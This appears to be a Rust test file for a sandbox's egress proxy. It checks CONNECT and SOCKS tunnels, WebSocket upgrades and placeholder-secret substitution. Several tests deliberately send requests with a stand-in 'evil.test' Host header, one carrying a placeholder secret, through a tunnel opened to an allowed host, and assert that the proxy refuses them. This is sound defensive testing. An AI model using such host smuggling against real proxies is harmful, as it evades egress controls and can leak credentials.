//! Tunnels through the way out: plain HTTP in them is for their host, and what is no HTTP passes as it is.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::Arc;

use sandbox::Computer;
use sandbox::egress::{Authority, Grant, Secret};

use crate::desk::{run, until};
use crate::egress::{PLENTY, PROXY, TestGate, computer, curl};
use crate::site::Site;

/// A program in Python that opens a tunnel of either kind as `line` and then does this.
#[track_caller]
fn speak(computer: &Computer, way: &str, place: &str, then: &str) -> String {
    let script = format!(
        r#"import socket, sys
way, (host, port) = {way:?}, {place:?}.rsplit(":", 1)
line = socket.create_connection(("127.0.0.1", 3128 if way == "connect" else 1080))
if way == "connect":
    line.sendall(f"CONNECT {{host}}:{{port}} HTTP/1.1\r\n\r\n".encode())
    heard = b""
    while not heard.endswith(b"\r\n\r\n"):
        heard += line.recv(1)
else:
    line.sendall(b"\x05\x01\x00"); line.recv(2)
    line.sendall(b"\x05\x01\x00\x03" + bytes([len(host)]) + host.encode() + int(port).to_bytes(2, "big")); line.recv(10)
def hear(much):
    heard = b""
    while len(heard) < much:
        more = line.recv(much - len(heard))
        if not more:
            break
        heard += more
    return heard
def hear_out():
    heard = b""
    while more := line.recv(4096):
        heard += more
    return heard
def get(path, host, more=""):
    return f"GET {{path}} HTTP/1.1\r\nHost: {{host}}\r\n{{more}}\r\n".encode()
{then}
"#
    );
    let (_, said) = run(computer, &format!("cat > tunnel.py <<'END'\n{script}END\npython3 tunnel.py 2>&1"));
    said
}

/// A server that does this with whoever comes.
fn server(serve: impl Fn(TcpStream) -> std::io::Result<()> + Send + 'static) -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let _ = serve(stream);
        }
    });
    address
}

#[test]
fn requests_in_a_tunnel_are_for_its_host_one_after_the_other() {
    let (gate, site) = (TestGate::new(), Site::plain());
    gate.allow("shop.test:8080", Some(site.address), PLENTY);
    let (_desk, computer, _egress) = computer(&gate);
    // One connection for both.
    let both = "http://shop.test:8080/a http://shop.test:8080/b -d 12345";
    let answered = "this is /a, and 5 bytes came\n200this is /b, and 5 bytes came\n200";
    assert_eq!(curl(&computer, &format!("{PROXY} -p {both}")), answered);
    assert_eq!(curl(&computer, &format!("--socks5-hostname 127.0.0.1:1080 {both}")), answered);
    assert_eq!(
        curl(&computer, &format!("--socks5 127.0.0.1:1080 {both}")),
        answered,
        "by the address that stands for it"
    );
    until("the connections are told of", || gate.closed().len() == 3);
    assert!(gate.rules().is_empty());
    for way in ["connect", "socks"] {
        let said =
            speak(&computer, way, "shop.test:8080", "line.sendall(get('/', 'evil.test')); print(hear_out().decode())");
        assert!(
            said.starts_with("HTTP/1.1 403 the request asks for evil.test:8080, and the connection was made to"),
            "{said}"
        );
        let said = speak(
            &computer,
            way,
            "shop.test:8080",
            "line.sendall(b'GET / HTTP/1.1\\r\\n\\r\\n'); print(hear_out().decode())",
        );
        assert!(said.starts_with("HTTP/1.1 400 the request names no host"), "{said}");
        let second = "line.sendall(get('/c', 'shop.test') + get('/d', 'evil.test') + get('/e', 'shop.test')); print(hear_out().decode())";
        let said = speak(&computer, way, "shop.test:8080", second);
        assert!(said.starts_with("HTTP/1.1 200 OK") && said.ends_with("this is /c, and 0 bytes came\n\n"), "{said}");
    }
    until("the refusals are told of", || gate.rules().len() == 6);
    assert_eq!(gate.rules().iter().filter(|rule| *rule == "egress.host").count(), 4);
    let heads = site.heads();
    assert!(heads.len() == 8 && heads.iter().all(|head| head.contains("Host: shop.test")), "{heads:#?}");
}

#[test]
fn what_is_no_http_passes_a_tunnel_whoever_speaks_first() {
    let gate = TestGate::new();
    let greets = server(|mut stream| {
        stream.write_all(b"220 ready\r\n")?;
        let mut heard = [0; 6];
        stream.read_exact(&mut heard)?;
        stream.write_all(&heard)
    });
    // Answers each piece at once, and to the end of the other side with its own.
    let echoes = server(|mut stream| {
        let mut piece = [0; 1024];
        loop {
            match stream.read(&mut piece)? {
                0 => return stream.write_all(b"over"),
                bytes => stream.write_all(&piece[..bytes])?,
            }
        }
    });
    gate.allow("mail.test:25", Some(greets), PLENTY);
    gate.allow("echo.test:7", Some(echoes), PLENTY);
    let (_desk, computer, _egress) = computer(&gate);
    for way in ["connect", "socks"] {
        let said =
            speak(&computer, way, "mail.test:25", "print(hear(11)); line.sendall(b'QUIT\\r\\n'); print(hear_out())");
        assert_eq!(said, "b'220 ready\\r\\n'\nb'QUIT\\r\\n'\n");
        // Each waits for its answer, so nothing may be held back.
        let pieces = r"
for words in [b'P', b'ING', b' the other side', b'\r\n', b'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n']:
    line.sendall(words); assert hear(len(words)) == words, words
line.shutdown(socket.SHUT_WR); print(hear_out())";
        assert_eq!(speak(&computer, way, "echo.test:7", pieces), "b'over'\n");
        let binary = "line.sendall(b'\\0\\0\\0\\x08\\x04\\xd2\\x16/'); print(hear(8)); line.close()";
        assert_eq!(speak(&computer, way, "echo.test:7", binary), "b'\\x00\\x00\\x00\\x08\\x04\\xd2\\x16/'\n");
    }
    until("all are told of", || gate.closed().len() == 6);
    assert!(gate.rules().is_empty(), "{:?}", gate.rules());
}

#[test]
fn behind_a_web_socket_a_tunnel_is_free() {
    let gate = TestGate::new();
    let site = server(|mut stream| {
        let mut head = Vec::new();
        while !head.ends_with(b"\r\n\r\n") {
            let mut byte = [0];
            stream.read_exact(&mut byte)?;
            head.push(byte[0]);
        }
        let text = String::from_utf8_lossy(&head).into_owned();
        assert!(text.contains("Upgrade: websocket\r\n") && text.contains("Connection: Upgrade\r\n"), "{text}");
        stream.write_all(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n")?;
        let mut frame = [0; 6];
        stream.read_exact(&mut frame)?;
        stream.write_all(&frame)
    });
    gate.allow("chat.test:80", Some(site), PLENTY);
    let (_desk, computer, _egress) = computer(&gate);
    for way in ["connect", "socks"] {
        let then =
            "line.sendall(get('/', 'chat.test', 'Upgrade: websocket\\r\\nConnection: Upgrade\\r\\n') + b'\\x81\\x04a')
seen = b''
while not seen.endswith(b'\\r\\n\\r\\n'): seen += hear(1)
line.sendall(b'\\nb\\n'); print(hear(6))";
        assert_eq!(speak(&computer, way, "chat.test:80", then), "b'\\x81\\x04a\\nb\\n'\n");
    }
    until("both are told of", || gate.closed().len() == 2);
    assert!(gate.rules().is_empty(), "{:?}", gate.rules());
}

#[test]
fn a_web_socket_is_opened_without_a_tunnel_and_to_a_host_that_a_secret_is_for() {
    let (gate, plain, secure) = (TestGate::new(), Site::plain(), Site::secure("api.test"));
    let key = Authority::new_key().unwrap();
    let authority = Arc::new(Authority::of_key(&key, vec![secure.certificate()]).unwrap());
    gate.allow("chat.test:80", Some(plain.address), PLENTY);
    let secrets = vec![Secret::new("thenar-secret-x", "the-value-of-the-secret").unwrap()];
    gate.put("api.test:443", Grant::new(1, Some(secure.address), PLENTY).with_secrets(secrets, Arc::clone(&authority)));
    let (desk, computer, _egress) = computer(&gate);
    std::fs::write(desk.path().join("workspace/ca.pem"), authority.certificate()).unwrap();
    let script = r#"
import socket, ssl
def open(host, port, sealed, target, name):
    line = socket.create_connection((host, port))
    if sealed:
        context = ssl.create_default_context(cafile="ca.pem")
        context.verify_flags |= ssl.VERIFY_X509_STRICT
        line = context.wrap_socket(line, server_hostname=name)
    head = f"GET {target} HTTP/1.1\r\nHost: {name}\r\nUpgrade: websocket\r\nConnection: keep-alive, Upgrade\r\n"
    line.sendall((head + "Authorization: Bearer thenar-secret-x\r\n\r\n").encode())
    said = b""
    while not said.endswith(b"\r\n\r\n"):
        said += line.recv(1)
    assert said.startswith(b"HTTP/1.1 101 "), said
    for frame in [b"\x81\x01a", b"thenar-secret-x", b"the-value-of-the-secret"]:
        line.sendall(frame)
        said = b""
        while len(said) < len(frame):
            said += line.recv(64)
        print(said)
    line.close()
open("chat.test", 80, False, "/", "chat.test")
open("127.0.0.1", 3128, False, "http://chat.test/", "chat.test")
open("api.test", 443, True, "/", "api.test")
"#;
    let (_, said) = run(&computer, &format!("cat > ws.py <<'END'\n{script}END\npython3 ws.py 2>&1"));
    let frames = "b'\\x81\\x01a'\nb'thenar-secret-x'\n";
    let known = "b'the-value-of-the-secret'\n";
    let blanked = "b'***********************'\n";
    assert_eq!(said, [frames, known, frames, known, frames, blanked].concat());
    assert!(secure.heads()[0].contains("Bearer the-value-of-the-secret\r\n"), "{:?}", secure.heads());
    assert!(plain.heads().len() == 2 && plain.heads().iter().all(|head| head.contains("Bearer thenar-secret-x\r\n")));
    until("all are told of", || gate.closed().len() == 3);
    assert!(gate.rules().is_empty(), "{:?}", gate.rules());
}

#[test]
fn a_secret_is_put_into_plain_requests_in_a_tunnel_too() {
    let (gate, site) = (TestGate::new(), Site::plain());
    let authority = Arc::new(Authority::of_key(&Authority::new_key().unwrap(), Vec::new()).unwrap());
    let secrets = vec![Secret::new("thenar-secret-x", "the-value").unwrap().in_clear_too()];
    let grant = Grant::new(1, Some(site.address), PLENTY).with_secrets(secrets, authority);
    gate.put("api.test:80", grant);
    let (_desk, computer, _egress) = computer(&gate);
    let both = "-H 'Authorization: Bearer thenar-secret-x' http://api.test/a http://api.test/b";
    for way in [&*format!("{PROXY} -p"), "--socks5-hostname 127.0.0.1:1080"] {
        let said = curl(&computer, &format!("{way} {both}"));
        assert_eq!(said, "this is /a, and 0 bytes came\n200this is /b, and 0 bytes came\n200");
    }
    let heads = site.heads();
    assert!(heads.len() == 4 && heads.iter().all(|head| head.contains("Bearer the-value\r\n")), "{heads:#?}");
    let said = speak(
        &computer,
        "connect",
        "api.test:80",
        "line.sendall(get('/', 'evil.test', 'X: thenar-secret-x\\r\\n')); print(hear_out())",
    );
    assert!(said.contains("403 the request asks for evil.test") && site.heads().len() == 4, "{said}");
}
